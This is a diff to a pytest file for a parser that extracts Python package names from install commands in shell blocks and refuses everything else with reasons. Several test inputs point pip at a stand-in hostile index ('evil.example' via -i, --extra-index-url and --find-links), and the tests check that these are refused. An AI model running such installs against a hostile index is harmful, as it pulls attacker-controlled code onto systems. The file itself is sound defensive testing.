@@ -1,4 +1,4 @@
-"""Which `pip install` lines are read, and which parts of a shell block are refused."""
+"""Which install commands are read, and which parts of a shell block are refused."""
 
 import pytest
 
@@ -15,6 +15,18 @@ from aiev_interpreter.packages.requirements import parse_install
         ("# a comment\n\npip install a\npip install b a", ("a", "b")),
         ("pip install json os numpy", ("numpy",)),
         ("pip install -i https://evil.example numpy", ("numpy",)),
+        ("pip install --upgrade pip && pip install humanize", ("humanize",)),
+        ("%pip install a\n!pip3 install b; echo done", ("a", "b")),
+        ("!{sys.executable} -m pip --quiet install -Uq a", ("a",)),
+        ("/usr/bin/python3.11 -m pip install --user a", ("a",)),
+        ("uv pip install --system a\nuv add b\npoetry add c", ("a", "b", "c")),
+        ("sudo -H pip install a \\\n  b >/dev/null 2>&1", ("a", "b")),
+        ("pip install a[x,y]>=1.2,<2 b ~= 1.0 c >=2, d==1.*,", ("a[x,y]<2,>=1.2", "b~=1.0", "c>=2", "d==1.*")),
+        ("pip install \"a; python_version > '3.8'\"", ('a; python_version > "3.8"',)),
+        ("conda install -y -c conda-forge numpy=1.26 pytorch python=3.11", ("numpy==1.26.*", "torch")),
+        ("pip install PIL Crypto python-dateutil", ("pillow", "pycryptodome", "python-dateutil")),
+        ("pip install yaml==6.0 cv2 opencv-python", ("PyYAML==6.0", "opencv-python-headless")),
+        ("pip install os.path urllib.request six", ("six",)),
     ],
 )
 def test_names_and_specifiers_are_read(text, wanted):
@@ -34,9 +46,30 @@ def test_names_and_specifiers_are_read(text, wanted):
         "pip install 'unbalanced",
         "apt-get install gcc",
         "pip install x@https://example.org/x.whl",
+        "pip install -rrequirements.txt",
+        "pip install --requirement=requirements.txt",
+        "pip install -e .",
+        "pip install dist/x-1.0-py3-none-any.whl",
+        "pip install x-1.0-py3-none-any.whl",
+        "pip install json",
+        "pip install collections.abc",
+        "pip install --extra-index-url https://evil.example numpy",
+        "conda create -n env numpy",
+        "python -m venv env",
+        "pip freeze",
     ],
 )
 def test_everything_else_is_refused_with_a_reason(text):
     plan = parse_install(text)
     assert plan.refused
     assert not [name for name in plan.requirements if name not in {"numpy", "x"}]
+
+
+def test_a_reason_quotes_the_refused_part():
+    text = "pip install -r requirements.txt json\nmake && pip install six --find-links https://evil.example"
+    assert parse_install(text).refused == (
+        "-r requirements.txt: files and local projects are not read; name the packages",
+        "json: part of the standard library",
+        "make: only the installation of Python packages is carried out",
+        "--find-links https://evil.example: packages come from the configured index alone",
+    )
